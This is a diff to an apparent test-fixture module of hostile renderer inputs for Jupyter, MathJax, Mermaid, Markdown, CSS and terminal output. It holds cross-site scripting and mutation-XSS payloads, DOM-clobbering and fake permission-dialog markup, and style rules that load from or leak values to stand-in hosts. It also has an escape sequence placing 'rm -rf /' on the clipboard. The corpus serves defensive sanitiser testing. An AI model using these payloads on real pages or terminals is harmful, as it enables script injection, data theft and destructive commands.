@@ -44,7 +44,6 @@ SCRIPTS: tuple[str, ...] = (
     f"&lt;script&gt;{JS}&lt;/script&gt;",
     f"&#60;script&#62;{JS}&#60;/script&#62;",
     f"%3Cscript%3E{JS}%3C/script%3E",
-    f"\u003cscript\u003e{JS}\u003c/script\u003e",
     f"＜script＞{JS}＜/script＞",
 )
 HANDLERS: tuple[str, ...] = (
@@ -207,6 +206,197 @@ FENCES: tuple[str, ...] = (
     f"# <script>{JS}</script>",
 )
 
+JUPYTER: tuple[str, ...] = (
+    "<button data-commandlinker-command='console:create' data-commandlinker-args='{}'>x</button>",
+    "<a href='#' data-commandlinker-command='kernelmenu:restart'>x</a>",
+    f"<script type='application/vnd.jupyter.widget-view+json'>{{}}</script><b>{JS}</b>",
+    f"<script type='application/javascript'>{JS}</script>",
+    f"<script type='text/x-mathjax-config'>{JS}</script>",
+    f"<script type='math/tex'>\\href{{javascript:{JS}}}{{x}}</script>",
+    "<div class='jp-OutputArea-output jp-RenderedJavaScript' data-mime-type='text/html'>x</div>",
+    "<jp-button appearance=stealth>x</jp-button><jp-dialog open>x</jp-dialog>",
+    "<div class='lm-Widget jp-mod-active' id=jp-main-dock-panel>x</div>",
+    f"<img data-attribute=src data-src={HOST}/x.png class=jp-needs-light-background>",
+    "[x](attachment:../../secret.png)",
+    "![x](files/x.png)",
+    "[x](#jp-main-dock-panel)",
+    "[x](?reset&token=1)",
+    "<div class=jp-RenderedMermaid><pre>graph TD; A-->B</pre></div>",
+    "<pre class=mermaid>graph TD; A-->B</pre>",
+    f"<div class=mathjax_process>\\(\\href{{javascript:{JS}}}{{x}}\\)</div>",
+)
+"""What an application of Jupyter acts on: command links, its own elements, scripts by type."""
+
+FORMULAS: tuple[str, ...] = (
+    f"$\\href{{javascript:{JS}}}{{x}}$",
+    f"$\\href{{java script:{JS}}}{{x}}$",
+    f"$\\href{{data:text/html,<script>{JS}</script>}}{{x}}$",
+    f"$\\url{{javascript:{JS}}}$",
+    f"$\\includegraphics{{{HOST}/x.png}}$",
+    f'$\\htmlClass{{cn-panel" onclick={JS} x="}}{{x}}$',
+    "$\\htmlId{main}{x}\\cssId{jp-main-dock-panel}{x}$",
+    f"$\\htmlStyle{{position:fixed;inset:0;background:url({HOST}/x.png)}}{{x}}$",
+    f"$\\htmlData{{commandlinker-command=console:create, x={JS}}}{{x}}$",
+    "$\\class{jp-Dialog}{x}\\style{position:fixed;inset:0;z-index:9}{x}$",
+    f"$\\unicode{{x3c}}script\\unicode{{x3e}}{JS}$",
+    f"$$\\require{{{HOST}/x.js}}\\require{{html}}\\href{{javascript:{JS}}}{{x}}$$",
+    f"$$\\def\\x{{\\href{{javascript:{JS}}}}}\\x{{y}}$$",
+    "$$\\def\\a{\\a\\a}\\a$$",
+    "$$\\rule{9999em}{9999em}\\kern-999em\\raise999em{x}\\Huge x$$",
+    f"\\[\\tooltip{{x}}{{<img src=x onerror={JS}>}}\\]",
+    f"\\(\\text{{</script><script>{JS}</script>}}\\)",
+    f"\\begin{{align}}\\href{{javascript:{JS}}}{{x}}\\end{{align}}",
+)
+"""What a renderer of formulas might follow, load or let through."""
+
+DIAGRAMS: tuple[str, ...] = tuple(
+    f"```mermaid\n{source}\n```"
+    for source in (
+        f"graph TD\n A-->B\n click A href 'javascript:{JS}' _self",
+        f"graph TD\n A-->B\n click A call eval('{JS}')",
+        f"graph TD\n A-->B\n click B href '{HOST}/x' _blank",
+        f"%%{{init: {{'securityLevel': 'loose', 'htmlLabels': true}}}}%%\n"
+        f"graph TD\n A[<img src=x onerror={JS}>]-->B",
+        f"%%{{init: {{'themeCSS': '@import url({HOST}/x.css);*{{position:fixed}}'}}}}%%\n"
+        "graph TD\n A-->B",
+        f"%%{{init: {{'fontFamily': 'x\\\\}} * {{background:url({HOST}/x.png)}}'}}}}%%\n"
+        "graph TD\n A-->B",
+        f"graph TD\n A[\"<iframe srcdoc='<script>{JS}</script>'>\"]-->B",
+        f"graph TD\n A@{{ img: '{HOST}/x.png', label: 'x' }}",
+        f"sequenceDiagram\n link Alice: x @ javascript:{JS}\n Alice->>B: <script>{JS}</script>",
+        f"classDiagram\n class A\n link A 'javascript:{JS}'",
+        f"---\nconfig:\n  securityLevel: loose\n---\ngraph TD\n A[<b onclick={JS}>x</b>]",
+        "graph TD\n A-->\n ]]] {{{ broken",
+        f"gantt\n title x\n click a href javascript:{JS}",
+    )
+)
+"""Mermaid, which has links, calls, pictures, style sheets and settings of its own."""
+
+CLOBBERING: tuple[str, ...] = (
+    "<form id=document name=cookie><input name=body id=location></form>",
+    "<a id=jupyterapp href=x></a><a id=jupyterapp name=commands href=x></a>",
+    "<img name=getElementById><img name=querySelector><img id=defaultView>",
+    "<p id=root class=cnv-root>x</p><p id=after>x</p>",
+    "<form><input name=attributes><input name=parentNode><input name=innerHTML></form>",
+    "<div class='cnv-root cnv-panel cnv-ask'><button class='cnv-choice'>Allow once</button></div>",
+    "<details class='cn-cut cn-turn-1'><summary>Show 1 more line</summary></details>",
+    "<iframe name=alert></iframe><object name=parent></object>",
+    "<div contenteditable autofocus>x</div><p tabindex=99 accesskey=s>x</p>",
+    "<div popover id=p>x</div><button popovertarget=p popovertargetaction=show>x</button>",
+    "<p is=x-y slot=z part=q nonce=1 itemprop=a>x</p>",
+    "<x-element>x</x-element><slot name=a>x</slot>",
+    "<p lang=en dir=rtl hidden inert draggable=true translate=no>x</p>",
+)
+"""Names that stand in for parts of the page, and elements that look like ours."""
+
+MUTATIONS: tuple[str, ...] = (
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={JS}>'>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
+    f"<svg></p><style><a id='</style><img src=1 onerror={JS}>'>",
+    f"<svg><style><img/src=x onerror={JS}></style></svg>",
+    f"<svg><![CDATA[</svg><img src=x onerror={JS}>]]></svg>",
+    f"<svg><title><a title='</title><img src=x onerror={JS}>'></title></svg>",
+    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={JS}></style></math>",
+    f"<noscript><style></noscript><img src=x onerror={JS}></style></noscript>",
+    f"<table><td><style><!--</style></td></table><a title='--><img src=x onerror={JS}>'>",
+    f"<select><template><img src=x onerror={JS}></template></select>",
+    f"<template><s><template><s><img src=x onerror={JS}>@shadow</s></template></s></template>",
+    f"<div><template shadowrootmode=open><script>{JS}</script></template></div>",
+    f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
+    f"<p title='`<img src=x onerror={JS}>'>``</p>",
+    f"<noembed><img title='</noembed><img src=x onerror={JS}>'></noembed>",
+    f"<noframes><p title='</noframes><img src=x onerror={JS}>'></noframes>",
+    f"<image src=x onerror={JS}><svg><image href=x onerror={JS}></svg>",
+    f"<svg><set attributeName=href to=javascript:{JS} /><a><text>x</text></a></svg>",
+    f"<svg><animate attributeName=href values=javascript:{JS} /><a id=x><rect/></a></svg>",
+    f"<svg><desc><img src=x onerror={JS}></desc></svg>",
+)
+"""What becomes something else when it is parsed a second time."""
+
+MARKDOWN: tuple[str, ...] = (
+    f"[x]: <javascript:{JS}> 'a'\n\n[x] ![x] [x][x]",
+    f"[a]: {HOST}/x.png\n\n![a]",
+    f"[a]: {HOST}/x.png 'b\" onerror=\"{JS}'\n\n![a][a]",
+    f"![![x]({HOST}/a.png)]({HOST}/b.png)",
+    f"[![x]({HOST}/a.png)](javascript:{JS})",
+    f"<javascript:{JS}> <JAVASCRIPT:{JS}> <data:text/html,x> <vbscript:x>",
+    f'<{HOST}/"onmouseover={JS}>',
+    f"{HOST}/\"onmouseover='{JS}'> www.evil.invalid/<script>{JS}</script>",
+    f"[^a]\n\n[^a]: <img src=x onerror={JS}> [x](javascript:{JS})",
+    f'[^" onmouseover="{JS}]\n\n[^" onmouseover="{JS}]: x',
+    f"> [!WARNING] <script>{JS}</script>\n> <img src=x onerror={JS}>",
+    f'> [!NOTE]\\" onclick={JS}\n> x',
+    f"``` {{.python onclick={JS}}}\nx\n```",
+    f"```python title='\" onclick={JS}'\nx\n```",
+    '```"><b>\nx\n```',
+    "~~~ <!--\nx\n~~~\n-->",
+    f"- [x] <input type=checkbox onclick={JS} checked>",
+    f"| a |\n|:-{{onclick={JS}}}-:|\n| [x](javascript:{JS}) |",
+    f"x\n: <script>{JS}</script>\n\n*[HTML]: <script>{JS}</script>",
+    f"{{: onclick={JS}}}\n\n# x {{#main onclick={JS}}}",
+    f"<div markdown=1>\n[x](javascript:{JS})\n</div>",
+    f"<!-- -- > <script>{JS}</script> -->",
+    f"<!-->\n<script>{JS}</script>\n-->",
+    f"&#x3C;img src=x onerror={JS}&#x3E; &lt;img src=x onerror={JS}&gt; \\<img src=x onerror={JS}>",
+    f"![x](data:image/svg+xml;utf8,<svg onload={JS}>)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)",
+    f"![x]({HOST}/x.png#" + "a" * 300 + ")",
+    f"[{'x' * 90}]({HOST}/{'../' * 20})",
+    "[x](https://user:password@evil.invalid@ok.invalid/)",
+    "[https://ok.invalid](https://ev\u0456l.invalid)",
+    "[x](mailto:a@b.invalid?bcc=c@evil.invalid&body=x%0d%0aBcc:y)",
+    "[x](feed:javascript:x) [x](view-source:x) [x](intent:x) [x](ms-word:x) [x](vscode://x)",
+    "[" * 60 + "x" + "](y)" * 60,
+    "*" * 90 + "x" + "_" * 90,
+    "> " * 60 + "x",
+)
+"""Markdown that is more than text: references, footnotes, alerts, attributes, deep nesting."""
+
+STYLES: tuple[str, ...] = (
+    f"<style>@import '{HOST}/x.css';@font-face{{font-family:x;src:url({HOST}/x.woff)}}</style>",
+    "<style>input[value^=a]{background:url(//evil.invalid/a)}</style><link rel=import href=x>",
+    f"<p style='background:u\\72l({HOST}/x.png)'>x</p>",
+    f"<p style='background:url(\\\n{HOST}/x.png)'>x</p>",
+    f"<p style='background:/*x*/ur/**/l({HOST}/x.png)'>x</p>",
+    f"<p style='-moz-binding:url({HOST}/x.xml#x);behavior:url({HOST}/x.htc)'>x</p>",
+    f"<p style='content:url({HOST}/x.png);cursor:url({HOST}/x.cur),auto'>x</p>",
+    f"<p style='background:image-set(\"{HOST}/x.png\" 1x)'>x</p>",
+    f"<p style='width:expression({JS});color:red;x:expre/**/ssion({JS})'>x</p>",
+    "<p style='position:sticky;top:0;margin-top:-99999px;font-size:99999px'>x</p>",
+    "<p style='background-color:red;color:red;opacity:0;max-height:0;display:none'>x</p>",
+    "<p style='animation:x 1s infinite;transition:all 9s;filter:blur(9px);clip-path:none'>x</p>",
+    f'<p style="--x:url({HOST}/x.png);background:var(--x)">x</p>',
+    f"<link rel='dns-prefetch preconnect prerender' href={HOST}><link rel=icon href={HOST}/x>",
+    f"<a ping={HOST}/x href=https://ok.invalid download>x</a>",
+    f"<img src=x lowsrc={HOST}/a dynsrc={HOST}/b longdesc={HOST}/c usemap=#m>",
+    f"<video autoplay controls><track default src={HOST}/x.vtt></video>",
+    f"<frameset><frame src={HOST}/></frameset><applet code=x codebase={HOST}/></applet>",
+    f"<portal src={HOST}/></portal><fencedframe src={HOST}/></fencedframe>",
+    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{HOST}/"]}}]}}</script>',
+    f'<script type=importmap>{{"imports":{{"x":"{HOST}/x.js"}}}}</script>',
+    f'<meta http-equiv=Content-Security-Policy content="script-src {HOST}">',
+    f"<meta http-equiv=set-cookie content=x=1><meta name=referrer content=unsafe-url>{HOST}",
+    f"<svg><filter><feImage xlink:href={HOST}/x /></filter><use href={HOST}/x#y /></svg>",
+    f"<svg><style>@import url({HOST}/x.css)</style><pattern><image href={HOST}/x></pattern></svg>",
+    f"<bgsound src={HOST}/x><xml src={HOST}/x><layer src={HOST}/x></layer>",
+)
+"""Styles and attributes that load, hide, cover or tell somebody."""
+
+ESCAPES: tuple[str, ...] = (
+    f"\x1b]8;;data:text/html,<script>{JS}</script>\x1b\\click\x1b]8;;\x1b\\",
+    f'\x1b]8;id=x" onclick={JS};{HOST}/\x07click\x1b]8;;\x07',
+    f"\x1b]1337;File=inline=1:{'QUJD' * 20}\x07",
+    "\x1b]52;c;cm0gLXJmIC8=\x07 \x1bP+q544e\x1b\\ \x1b_Gf=100;AAAA\x1b\\",
+    "\x1b[999999999;999999999H\x1b[9999999999999m\x1b[;;;;;;m x",
+    "\x1b[38;2;300;-1;1e9mx\x1b[48;5;999my\x1b[38;5mz",
+    "visible\x1b[2K\rhidden\x1b[1A\x1b[7lwrap",
+    "\x1b(0lqqk\x1b(B \x0e\x0f \x9d0;title\x9c \x90q\x9c",
+    "\U000e0001\U000e0068\U000e0069 \u2060\u2061\u180e\u115f\u1160 \u034f\ufe0f\u206a",
+    "a\u0301" + "\u0300" * 90,
+    "\ud800lone \udfff" if False else "\ufffdlone\ufffe",
+)
+"""Escape sequences and characters that a terminal obeys or nobody sees."""
+
 ALL: tuple[str, ...] = (
     *SCRIPTS,
     *HANDLERS,
@@ -216,6 +406,14 @@ ALL: tuple[str, ...] = (
     *TERMINAL,
     *DISGUISES,
     *FENCES,
+    *JUPYTER,
+    *FORMULAS,
+    *DIAGRAMS,
+    *CLOBBERING,
+    *MUTATIONS,
+    *MARKDOWN,
+    *STYLES,
+    *ESCAPES,
 )
 """Every hostile text."""
 
